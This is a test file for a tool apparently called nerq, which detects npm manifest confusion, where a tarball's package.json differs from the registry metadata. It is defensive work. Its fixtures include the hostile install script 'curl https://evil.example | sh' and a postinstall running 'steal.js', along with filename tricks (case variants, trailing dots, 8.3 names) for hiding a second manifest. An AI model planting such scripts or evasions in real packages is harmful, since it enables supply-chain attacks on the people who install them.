/**
 * Hostile world: manifest confusion. npm decides whether to run install scripts from the
 * packument's `hasInstallScript` and runs the scripts of the tarball's own package.json, not
 * the packument's `scripts`. A version whose packument lists nothing while its tarball runs a
 * postinstall must never be "no install-time scripts": nerq reads the tarball's package.json (in
 * memory, capped), compares it with the packument, makes any difference a security finding that
 * holds the verdict, and lets install-scripts and release-anomalies see the union.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkOf, osvNoAdvisories } from '../cli/helpers.js';
import { makeTarball, type TarEntry } from '../support/tarball.js';
import { requireCli } from './support/cli.js';
import { CLI_TEST_TIMEOUT_MS } from './support/expect.js';
import { noteCases } from './support/metrics.js';
import { CHALK_FILES, CHALK_MANIFEST, closeWorlds, evaluate, version, vouchedFor, type Packument } from './support/package-world.js';

beforeAll(() => requireCli());
afterAll(() => closeWorlds());

const MANIFEST = CHALK_MANIFEST;
const FILES: TarEntry[] = [...CHALK_FILES];

const tarballWith = (manifest: object, extra: TarEntry[] = [], root = 'package'): Buffer =>
  makeTarball([{ path: 'package.json', content: JSON.stringify(manifest) }, ...FILES, ...extra], { root });

interface Case {
  label: string;
  tarball: Buffer;
  packument?: (packument: Packument) => void;
}

const cases: Case[] = [
  { label: 'the tarball runs a postinstall the packument does not list', tarball: tarballWith({ ...MANIFEST, scripts: { ...MANIFEST.scripts, postinstall: 'node steal.js' } }) },
  { label: 'the tarball changes the packument\'s install script', tarball: tarballWith({ ...MANIFEST, scripts: { install: 'curl https://evil.example | sh' } }), packument: (p) => void (version(p).scripts = { install: 'node-gyp rebuild' }) },
  { label: 'hasInstallScript: true, and no script shown anywhere', tarball: tarballWith(MANIFEST), packument: (p) => void (version(p).hasInstallScript = true) },
  { label: 'a second package.json later in the archive (extraction keeps the last)', tarball: makeTarball([{ path: 'package.json', content: JSON.stringify(MANIFEST) }, ...FILES, { path: 'package.json', content: JSON.stringify({ ...MANIFEST, scripts: { preinstall: 'node x.js' } }) }]) },
  { label: 'the archive\'s folder is not called package (npm strips it anyway)', tarball: tarballWith({ ...MANIFEST, scripts: { postinstall: 'node x.js' } }, [], 'evil') },
  // On a case-insensitive file system (macOS, Windows) a later `PACKAGE.JSON` replaces the
  // package.json npm reads; Windows drops a name's trailing dots and spaces, and reaches a file
  // by its 8.3 short name: the honest package.json is what a Linux reader sees, not what npm runs.
  ...['PACKAGE.JSON', 'Package.json', 'package.json.', 'package.json ', 'PACKAG~1.JSO'].map((alias) => ({
    label: `a later ${JSON.stringify(alias)} that a case-insensitive or Windows file system reads as package.json`,
    tarball: tarballWith(MANIFEST, [{ path: alias, content: JSON.stringify({ ...MANIFEST, scripts: { postinstall: 'node steal.js' } }) }]),
  })),
];

const identity: Case[] = [
  { label: 'another name in the tarball', tarball: tarballWith({ ...MANIFEST, name: 'evil-chalk' }) },
  { label: 'another version in the tarball', tarball: tarballWith({ ...MANIFEST, version: '9.9.9' }) },
  { label: 'an extra dependency in the tarball', tarball: tarballWith({ ...MANIFEST, dependencies: { ...MANIFEST.dependencies, 'evil-helper': '^1.0.0' } }) },
  { label: 'a bin only in the tarball', tarball: tarballWith({ ...MANIFEST, bin: { chalk: 'x.js' } }) },
];

describe('what npm would run is what nerq reports', () => {
  it.concurrent.for(cases.map((c) => [c.label, c] as const))('%s: install-scripts sees it, manifest-confusion fails, the verdict is held', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, c], { task, expect }) => {
    noteCases(task);
    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(c.tarball, c.packument), osv: osvNoAdvisories });
    sandbox.remove();
    const scripts = checkOf(report, 'install-scripts');
    expect(scripts.messageId, label).not.toBe('none');
    expect(scripts.score ?? 100, label).toBeLessThan(100);
    const confusion = checkOf(report, 'manifest-confusion');
    expect(confusion.score, label).toBe(0);
    expect(confusion.messageId, label).toBe('different');
    expect(report.verdictCode, label).not.toBe('yes');
  });

  it.concurrent.for(identity.map((c) => [c.label, c] as const))('%s: manifest-confusion fails and holds the verdict', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, c], { task, expect }) => {
    noteCases(task);
    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(c.tarball, c.packument), osv: osvNoAdvisories });
    sandbox.remove();
    expect(checkOf(report, 'manifest-confusion').score, label).toBe(0);
    expect(report.verdictCode, label).not.toBe('yes');
  });

  it('a postinstall only in the tarball is an install script added since the previous version', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
    noteCases(task);
    const label = 'release-anomalies sees the tarball';
    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(tarballWith({ ...MANIFEST, scripts: { postinstall: 'node x.js' } })), osv: osvNoAdvisories });
    sandbox.remove();
    expect(checkOf(report, 'release-anomalies').evidence.anomalies, label).toContain('install-script-added');
  });

  it('the same package.json as the packument: nothing to report', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
    noteCases(task);
    const { report, sandbox } = await evaluate(task, 'matching', { ...vouchedFor(tarballWith(MANIFEST)), osv: osvNoAdvisories });
    sandbox.remove();
    expect(checkOf(report, 'manifest-confusion').score).toBe(100);
    expect(checkOf(report, 'install-scripts').messageId).toBe('none');
  });

  it('a PACKAGE.JSON that says the same as the packument: nothing to report', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task }) => {
    noteCases(task);
    const tarball = tarballWith(MANIFEST, [{ path: 'PACKAGE.JSON', content: JSON.stringify(MANIFEST) }]);
    const { report, sandbox } = await evaluate(task, 'matching alias', { ...vouchedFor(tarball), osv: osvNoAdvisories });
    sandbox.remove();
    expect(checkOf(report, 'manifest-confusion').score).toBe(100);
    expect(checkOf(report, 'install-scripts').messageId).toBe('none');
  });

  // The registry's answer for chalk says it is another package: the name it gives is not the
  // package asked for, and the advisories, attestations and repository of that other name are
  // not chalk's (a malicious-package advisory for the name asked must not be looked up as another's).
  it.for([
    ['the packument', (p: Packument): void => void (p.name = 'left-pad')],
    ['the version manifest, the packument naming none', (p: Packument): void => {
      delete (p as { name?: string }).name;
      version(p).name = 'left-pad';
    }],
  ] as const)('the registry answer names another package (%s): never evaluated as that name', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, change], { task }) => {
    noteCases(task);
    const tarball = tarballWith(MANIFEST);
    const { report, run, sandbox } = await evaluate(task, label, { ...vouchedFor(tarball, change), osv: osvNoAdvisories });
    sandbox.remove();
    expect(run.code, label).toBe(3);
    expect(report.verdictCode, label).toBe('unknown');
    expect(report.target.name, label).toBe('chalk');
    expect(report.verdictReasonDetails?.[0]?.args, label).toMatchObject({ error: 'registry-unavailable' });
    expect(JSON.stringify(report), label).not.toContain('left-pad');
  });

  it.for([
    ['no package.json at all', makeTarball(FILES)],
    ['a package.json over 1 MiB', tarballWith({ ...MANIFEST, padding: 'x'.repeat(1024 * 1024) })],
    ['a package.json that is not JSON', makeTarball([{ path: 'package.json', content: '{"name": "chalk", ' }, ...FILES])],
  ] as const)('%s: the comparison is unknown with the reason, never "matches"', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, tarball], { task }) => {
    noteCases(task);
    const { report, sandbox } = await evaluate(task, label, { ...vouchedFor(tarball), osv: osvNoAdvisories });
    sandbox.remove();
    const confusion = checkOf(report, 'manifest-confusion');
    expect(confusion.score, label).toBeNull();
    expect(confusion.messageId, label).toBe('unreadable');
  });
});
